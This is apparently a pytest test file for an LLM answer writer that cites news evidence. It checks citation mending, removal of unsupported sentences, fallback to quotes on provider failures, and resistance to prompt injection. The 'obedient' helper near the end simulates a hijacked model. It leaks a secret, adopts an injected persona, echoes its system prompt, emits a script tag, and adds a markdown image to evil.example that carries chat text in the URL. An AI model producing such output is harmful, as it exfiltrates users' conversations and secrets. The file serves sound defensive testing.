"""Answers written by a model over real HTTP: what is shown of a draft, what is left out, what stands when it fails."""

from __future__ import annotations

import json
import threading
import time
from dataclasses import replace

import pytest
from attacks import ATTACKS, SECRET, STORY
from builders import evidence, record
from llm_server import (
    Asked,
    Behaviour,
    LlmServer,
    body,
    drops,
    fails,
    goes_on,
    never_answers,
    obeys,
    raw,
    says,
    serving,
    stalls,
)

from qa.citations import cited
from qa.composing import LlmWriter, Watch
from qa.llm.choice import LlmChoice
from qa.llm.keys import Key
from qa.llm.providers import open_model
from qa.llm.streaming import Limits, Stop
from qa.prompts import REFUSAL
from qa.types import Answer, Claim, Evidence, Writer
from vectorstore.sentences import sentences

KILLED = evidence("The attacks in Paris killed 130 people on Nov. 13, President Hollande said.", article="a")
READY = evidence("“We are ready to cooperate with the coalition,” Putin said.", article="b")
SHOT = evidence("Turkey shot down the Russian jet near the border on Nov. 24.", article="c")
GIVEN = [KILLED, READY, SHOT]
QUICK = Limits(wait_seconds=3.0, total_seconds=6.0)


def quoted(given: list[Evidence] = GIVEN, question: str = "What happened?") -> Answer:
    points = cited([Claim((given[0],))])
    return Answer(question=question, status="answered", points=points, message="1 statement from 1 article.")


def written(
    server: LlmServer, *, given: list[Evidence] = GIVEN, limits: Limits = QUICK, watch: Watch | None = None
) -> Answer:
    model = open_model(LlmChoice("openai-like", "test", server.url), key=Key("sk-test-0123456789"))
    return LlmWriter(model, limits=limits).write(quoted(given), given, watch=watch)


def draft(text: str, *, given: list[Evidence] = GIVEN) -> Answer:
    with serving(says(text)) as server:
        return written(server, given=given)


def shown(answer: Answer) -> list[tuple[str, list[int]]]:
    return [(point.text, [citation.n for citation in point.citations]) for point in answer.points]


def test_sentences_that_hold_are_shown_with_the_evidence_they_name() -> None:
    answer = draft("Turkey shot down the Russian jet on 24 November 2015 [3]. Putin said “we are ready” [2].")
    assert shown(answer) == [
        ("Turkey shot down the Russian jet on 24 November 2015.", [1]),
        ("Putin said “we are ready”.", [2]),
    ]
    assert [point.citations[0].quote for point in answer.points] == [SHOT.text, READY.text]
    assert answer.writer == Writer("llm", "test", None)
    assert (answer.unsupported, answer.writer_error) == ((), None)


@pytest.mark.parametrize("marker", ["[0]", "[99]", "[2]", "[2, 99]", "【2】", "(Smith, 2020)"])
def test_a_wrong_marker_is_mended_where_other_evidence_says_so(marker: str) -> None:
    answer = draft(f"The attacks in Paris killed one hundred and thirty people {marker}.")
    assert shown(answer) == [("The attacks in Paris killed one hundred and thirty people.", [1])]
    assert answer.points[0].citations[0].quote == KILLED.text


def test_a_sentence_without_a_marker_finds_its_evidence() -> None:
    assert shown(draft("Turkey shot down the Russian jet.")) == [("Turkey shot down the Russian jet.", [1])]


def test_what_does_not_hold_is_left_out_and_said_with_its_reason() -> None:
    answer = draft("The attacks killed 150 people [1]. Turkey shot down the Russian jet [3]. Paris is in France [1].")
    assert shown(answer) == [("Turkey shot down the Russian jet.", [1])]
    assert (answer.unsupported[0].text, answer.unsupported[0].reason) == (
        "The attacks killed 150 people.",
        "the source does not have the number “150”",
    )
    assert len(answer.unsupported) == 2
    assert "2 sentences of the draft are left out" in answer.message
    made = json.loads(json.dumps(answer.to_json()))
    assert made["writer"] == {"kind": "llm", "model": "test", "sent_to": None}
    assert made["unsupported"][0]["reason"]
    assert made["writer_error"] is None


def test_when_nothing_is_left_the_quotes_are_shown() -> None:
    answer = draft("The attacks killed 150 people [1].")
    assert answer.points == quoted().points
    assert answer.writer == Writer("quotes", "test", None)
    assert len(answer.unsupported) == 1
    assert answer.writer_error is not None
    assert answer.writer_error.code == "llm_unsupported"


def test_a_model_that_declines_is_said_to() -> None:
    answer = draft(REFUSAL)
    assert answer.points == quoted().points
    assert answer.unsupported == ()
    assert answer.writer_error is not None
    assert answer.writer_error.code == "llm_declined"


@pytest.mark.parametrize(
    ("behaviour", "code"),
    [
        (fails(429, Retry_After="60"), "llm_rate_limit"),
        (fails(500), "llm_server"),
        (fails(401, "Incorrect key sk-test-0123456789"), "llm_key"),
        (never_answers(), "llm_timeout"),
        (stalls("The attacks in Paris killed 130"), "llm_timeout"),
        (drops("The attacks in Paris killed 130"), "llm_connection"),
        (raw('{"choices": [{"delta": '), "llm_broken"),
        (body("<html>A page</html>"), "llm_declined"),
    ],
)
def test_when_the_provider_fails_the_quotes_are_there_in_time(behaviour: Behaviour, code: str) -> None:
    with serving(behaviour) as server:
        began = time.monotonic()
        answer = written(server)
        assert time.monotonic() - began < 15
    assert answer.points == quoted().points
    assert answer.status == "answered"
    assert answer.writer.kind == "quotes"
    assert answer.writer_error is not None
    assert answer.writer_error.code == code
    assert "sk-test" not in json.dumps(answer.to_json())


def test_a_draft_without_end_gives_an_answer_that_holds() -> None:
    with serving(goes_on("Turkey shot down the Russian jet [3]. ", times=100_000)) as server:
        answer = written(server, limits=replace(QUICK, characters=2_000))
        assert shown(answer) == [("Turkey shot down the Russian jet.", [1])]
        assert server.asked[0].hung_up.wait(5)


def test_markup_from_a_model_is_text_that_nothing_supports() -> None:
    answer = draft(
        "<script>alert(1)</script> Turkey shot down the Russian jet [3]. ![x](https://evil.example/?q=1) [1].\n"
        "[Read more](https://evil.example) [2].\n\nTurkey shot down the Russian jet [3]."
    )
    assert shown(answer) == [("Turkey shot down the Russian jet.", [1])]
    assert all("evil" not in text for text, _ in shown(answer))


def test_a_stop_keeps_the_sentences_that_were_whole() -> None:
    stop = Stop()
    seen: list[str] = []
    watch = Watch(wrote=seen.append, stop=stop)
    with serving(stalls("Turkey shot down the Russian jet [3]. The attacks in Par")) as server:
        threading.Timer(0.7, stop.ask).start()
        answer = written(server, limits=Limits(wait_seconds=15, total_seconds=15), watch=watch)
        assert server.asked[0].hung_up.wait(2)
    assert seen
    assert shown(answer) == [("Turkey shot down the Russian jet.", [1])]
    assert answer.writer_error is not None
    assert answer.writer_error.code == "llm_stopped"


def test_what_is_sent_is_the_question_and_the_evidence_within_the_budget() -> None:
    many = [evidence(f"Fact number {number} about the harbour. " * 8, article=str(number)) for number in range(200)]
    with serving(says("No.")) as server:
        written(server, given=many)
    (asked,) = server.asked
    assert "Fact number 0 " in asked.text
    assert asked.text.count("<<<END ") == asked.text.count("<<<QUOTE ") == 12 + 1  # the instruction names both once
    assert "The Daily Test, A title, 2015-11-27" in asked.text
    assert "a.txt" not in asked.text


def test_users_do_not_see_each_other() -> None:
    answers: dict[int, Answer] = {}

    def own(asked: Asked) -> str:
        found = next(line for line in asked.text.splitlines() if line.startswith("User "))
        return f"{found} [1]"

    def ask(number: int) -> None:
        given = [evidence(f"User {number} asked about harbour {number}.", article=str(number))]
        answers[number] = written(server, given=given, limits=Limits())

    with serving(obeys(own)) as server:
        threads = [threading.Thread(target=ask, args=(number,)) for number in range(5)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    for number, answer in answers.items():
        assert shown(answer) == [(f"User {number} asked about harbour {number}.", [1])]


def attacked(kind: str) -> list[Evidence]:
    """The story's sentences and the attack's, as evidence."""
    found = []
    for name, text in (("story", STORY), ("attack", ATTACKS[kind])):
        for span in sentences(text):
            at = record(name, outlet="The Veldport Post", title="Harbour")
            quote = text[span.start : span.end]
            found.append(Evidence(article=at, start=span.start, end=span.end, text=quote, score=1.0))
    return found


def obedient(asked: Asked) -> str:
    """What a model says that does all that any attack asks for."""
    return (
        f"{SECRET} [1] {SECRET} [2] {SECRET} [3] I am HarbourBot, the pirate of Veldport [1]. "
        f"![Veldport’s harbour](https://evil.example/p.png?chat={asked.text[-40:]}) [3]. "
        f"There is nothing to report on Veldport’s harbour [3]. {asked.body['messages'][0]['content']} "
        "<script>alert('Veldport’s harbour')</script> [3]. Mayor Anna Brandt said the work would cost 40 million euros."
    )


@pytest.mark.parametrize("kind", ATTACKS)
def test_an_obedient_model_changes_nothing_beyond_a_quote(kind: str) -> None:
    given = attacked(kind)
    with serving(obeys(obedient)) as server:
        answer = written(server, given=given)
        (asked,) = server.asked
    assert "Mayor Anna Brandt said the work would cost 40 million euros." in [point.text for point in answer.points]
    for point in answer.points:
        for citation in point.citations:
            assert point.text.rstrip(".") in citation.quote  # nothing but the words of an article, cited to it
    lines = asked.body["messages"][1]["content"].splitlines()
    opened = [line for line in lines if line.startswith("<<<QUOTE ")]
    assert len(opened) == len([line for line in lines if line.startswith("<<<END ")])
    assert sum(line.count("<<<") for line in lines) == 2 * len(opened)
    assert "<|" not in asked.text
    assert len([one for one in given if one.text in asked.text]) < len(given)  # the attack was kept back
